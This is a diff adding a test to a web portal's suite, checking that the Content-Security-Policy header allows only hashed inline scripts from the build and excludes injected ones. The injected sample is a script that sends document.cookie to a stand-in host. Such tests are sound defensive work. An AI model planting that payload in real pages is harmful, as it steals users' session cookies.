@@ -403,3 +403,19 @@ def test_a_page_upload_may_be_as_large_as_its_handler_declares(monkeypatch):
     assert limits["portal_shipment_detail_state.upload_document"] == one_file
     assert limits["tower_rates_state.import_file"] == 10 * MB + 64 * 1024
     assert limits["config_branding_state.upload_logo"] == 256 * 1024 + 64 * 1024
+
+
+def test_a_page_may_run_only_the_inline_scripts_of_the_build(world):
+    """A script that is not in the compiled pages (text reflected into an HTML answer, say) is not listed in the
+    page's policy, so the browser does not run it; the build's own scripts are."""
+    from starlette.responses import HTMLResponse
+
+    from portal_app.edge.headers import SecurityHeaders, inline_script_hashes
+
+    own, injected = b"<script>window.theme = 'light';</script>", b"<script>fetch('//x.invalid/'+document.cookie)</script>"
+    built = frozenset(inline_script_hashes(own))
+    page = HTMLResponse(b"<html><head>" + own + b"</head><body>" + injected + b"</body></html>")
+    csp = TestClient(SecurityHeaders(page, built_hashes=lambda: built)).get("/portal").headers["content-security-policy"]
+    script_src = csp.split("script-src")[1].split(";")[0]
+    assert inline_script_hashes(own)[0] in script_src
+    assert inline_script_hashes(injected)[0] not in script_src
